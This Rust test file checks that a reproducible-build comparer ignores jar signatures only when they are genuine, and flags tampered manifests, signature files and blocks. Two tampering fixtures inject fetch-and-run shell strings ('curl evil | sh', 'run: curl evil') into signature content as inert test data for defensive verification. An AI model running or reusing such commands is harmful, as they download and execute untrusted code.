//! Signed jars, compared with unsigned ones and with ones that only seem to be signed.

use super::{applied, jar};
use crate::compare::package::digest::{self, Algorithm};
use crate::compare::{Cause, Normalisation, Options, Outcome, compare_bytes};

/// A value in DER.
fn der(tag: u8, parts: &[&[u8]]) -> Vec<u8> {
    let content = parts.concat();
    let length = u16::try_from(content.len()).expect("a short value").to_be_bytes();
    [&[tag, 0x82], length.as_slice(), &content].concat()
}

/// A signature block for `file`, without certificates.
fn block(file: &[u8]) -> Vec<u8> {
    const SHA_256: &[u8] = b"\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01";
    const DATA: &[u8] = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01";
    const SIGNED: &[u8] = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x02";
    const DIGEST: &[u8] = b"\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x09\x04";
    let digest = der(0x04, &[&digest::of(Algorithm::Sha256, file)]);
    let attributes = der(0xa0, &[&der(0x30, &[DIGEST, &der(0x31, &[&digest])])]);
    let algorithm = der(0x30, &[SHA_256]);
    let one = der(0x02, &[&[1]]);
    let signature = der(0x04, &[&[7; 64]]);
    let signer = der(
        0x30,
        &[
            &one,
            &der(0x30, &[&one]),
            &algorithm,
            &attributes,
            &algorithm,
            &signature,
        ],
    );
    let data = der(
        0x30,
        &[
            &one,
            &der(0x31, &[&algorithm]),
            &der(0x30, &[DATA]),
            &der(0x31, &[&signer]),
        ],
    );
    der(0x30, &[SIGNED, &der(0xa0, &[&data])])
}

fn in_base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut text = String::new();
    for group in bytes.chunks(3) {
        let word = group
            .iter()
            .fold(0_u32, |word, byte| (word << 8) | u32::from(*byte))
            << (8 * (3 - group.len()));
        for at in 0..4 {
            let digit = DIGITS[(word >> (18 - 6 * at)) as usize & 63];
            text.push(if at <= group.len() { char::from(digit) } else { '=' });
        }
    }
    text
}

/// Entries of a signed jar with this class.
fn signed(class: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    signed_with("Main-Class: a.A\r\n", class)
}

/// The same, with these attributes.
fn signed_with(attributes: &str, class: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
    let sum = |bytes: &[u8]| in_base64(&digest::of(Algorithm::Sha256, bytes));
    let section = format!("Name: a/A.class\r\nSHA-256-Digest: {}\r\n\r\n", sum(class));
    let manifest = format!("Manifest-Version: 1.0\r\n{attributes}\r\n{section}");
    let file = format!(
        "Signature-Version: 1.0\r\nSHA-256-Digest-Manifest: {}\r\nCreated-By: 17 (Debian)\r\n\r\nName: a/A.class\r\nSHA-256-Digest: {}\r\n\r\n",
        sum(manifest.as_bytes()),
        sum(section.as_bytes())
    );
    vec![
        ("META-INF/MANIFEST.MF", manifest.into_bytes()),
        ("META-INF/X.SF", file.clone().into_bytes()),
        ("META-INF/X.RSA", block(file.as_bytes())),
        ("a/A.class", class.to_vec()),
    ]
}

fn whole(entries: &[(&'static str, Vec<u8>)]) -> Vec<u8> {
    jar(&entries
        .iter()
        .map(|(name, bytes)| (*name, bytes.as_slice()))
        .collect::<Vec<_>>())
}

// One long table.
#[test]
fn a_signature_is_one_only_of_the_jar_that_it_is_in() {
    let unsigned = whole(&[
        (
            "META-INF/MANIFEST.MF",
            b"Manifest-Version: 1.0\r\nMain-Class: a.A\r\n\r\n".to_vec(),
        ),
        ("a/A.class", b"class".to_vec()),
    ]);
    let compare =
        |released: &[u8], rebuilt: &[u8]| compare_bytes("x.jar", released, rebuilt, &Options::default());
    for (released, rebuilt) in [
        (whole(&signed(b"class")), &unsigned),
        (unsigned.clone(), &whole(&signed(b"class"))),
    ] {
        let found = compare(&released, rebuilt);
        assert_eq!(found.outcome, Outcome::Equivalent, "{found:?}");
        assert_eq!(found.causes[0].cause, Cause::Signature);
        assert_eq!(applied(&found), [Normalisation::JarSignature]);
    }
    let changed = |at: usize, change: &dyn Fn(&mut Vec<u8>)| {
        let mut entries = signed(b"class");
        change(&mut entries[at].1);
        whole(&entries)
    };
    let replaced = |from: &'static str, to: &'static str| {
        move |bytes: &mut Vec<u8>| *bytes = String::from_utf8_lossy(bytes).replace(from, to).into_bytes()
    };
    for (what, released) in [
        (
            "a manifest that was not signed",
            changed(0, &|bytes| bytes.extend(b"Name: b\r\nX: y\r\n\r\n")),
        ),
        (
            "an unknown attribute",
            changed(1, &replaced("Created-By: 17 (Debian)", "X: y")),
        ),
        (
            "a value without its form",
            changed(1, &replaced("17 (Debian)", "curl evil | sh")),
        ),
        ("a line behind", changed(1, &|bytes| bytes.extend(b"evil"))),
        ("another file", changed(1, &replaced("a/A.class", "a/B.class"))),
        (
            "no block",
            changed(2, &|bytes| *bytes = b"run: curl evil\n".to_vec()),
        ),
        ("bytes behind a block", changed(2, &|bytes| bytes.push(0))),
        (
            "a block of another file",
            changed(2, &|bytes| *bytes = block(b"x")),
        ),
        (
            "an entry that was not signed",
            changed(3, &|bytes| *bytes = b"other".to_vec()),
        ),
    ] {
        let found = compare(&released, &unsigned);
        assert_eq!(found.outcome, Outcome::Different, "{what} {found:?}");
        assert_eq!(found.causes[0].cause, Cause::Content, "{what} {found:?}");
    }
    // Neither below META-INF's folders, nor with another suffix.
    for name in ["META-INF/versions/9/X.SF", "X.SF", "META-INF/X.SFX"] {
        let mut entries = signed(b"class");
        entries[1].0 = name;
        assert_eq!(
            compare(&whole(&entries), &unsigned).causes[0].cause,
            Cause::Content,
            "{name}"
        );
    }
}

#[test]
fn digests_of_entries_follow_from_the_entries() {
    let compare = |released: &[(&'static str, Vec<u8>)], rebuilt: &[(&'static str, Vec<u8>)]| {
        compare_bytes("x.jar", &whole(released), &whole(rebuilt), &Options::default())
    };
    let found = compare(&signed(b"class"), &signed(b"other"));
    assert_eq!(found.causes.len(), 2, "{found:?}");
    assert_eq!(
        (found.causes[0].cause, found.causes[0].example.path.as_str()),
        (Cause::Content, "a/A.class")
    );
    let mut wrong = signed(b"class");
    wrong[0].1 = signed(b"other")[0].1.clone();
    let found = compare(&signed(b"class"), &wrong);
    assert_eq!(found.causes[0].cause, Cause::Content, "{found:?}");
    let is_told = |part: &str| found.causes.iter().any(|cause| cause.key.contains(part));
    assert!(
        is_told("not that of the entry") && is_told("a signature that is the same"),
        "{found:?}"
    );
}

#[test]
fn a_signer_may_add_the_manifest() {
    let compare = |entries: &[(&'static str, Vec<u8>)]| {
        let unsigned = whole(&[("a/A.class", b"class".to_vec())]);
        compare_bytes("x.jar", &whole(entries), &unsigned, &Options::default())
    };
    let found = compare(&signed_with("", b"class"));
    assert_eq!(found.outcome, Outcome::Equivalent, "{found:?}");
    assert_eq!(applied(&found), [Normalisation::JarSignature]);
    let found = compare(&signed_with("Main-Class: a.A\r\n", b"class"));
    assert_eq!(found.outcome, Outcome::Different, "{found:?}");
    assert_eq!(found.causes[0].cause, Cause::Content);
}

#[test]
fn a_signature_is_right_for_one_manifest_alone() {
    let compare = |rebuilt: &[(&'static str, Vec<u8>)]| {
        compare_bytes(
            "x.jar",
            &whole(&signed_with("Build-Jdk: 17.0.1\r\n", b"class")),
            &whole(rebuilt),
            &Options::default(),
        )
    };
    let resigned = signed_with("Build-Jdk: 17.0.2\r\n", b"class");
    assert_eq!(compare(&resigned).outcome, Outcome::Equivalent);
    let old = signed_with("Build-Jdk: 17.0.1\r\n", b"class");
    let other_form = String::from_utf8_lossy(&old[0].1)
        .replace("\r\n", "\n")
        .into_bytes();
    let other_tool = String::from_utf8_lossy(&old[1].1)
        .replace("17 (Debian)", "18 (Debian)")
        .into_bytes();
    for (what, at, bytes) in [
        ("another attribute", 0, resigned[0].1.clone()),
        ("another form", 0, other_form),
        ("another signature file", 1, other_tool),
    ] {
        let mut stale = old.clone();
        stale[at].1 = bytes;
        let found = compare(&stale);
        assert_eq!(
            (found.outcome, found.causes[0].cause),
            (Outcome::Different, Cause::Content),
            "{what} {:?}",
            found.causes
        );
    }
}
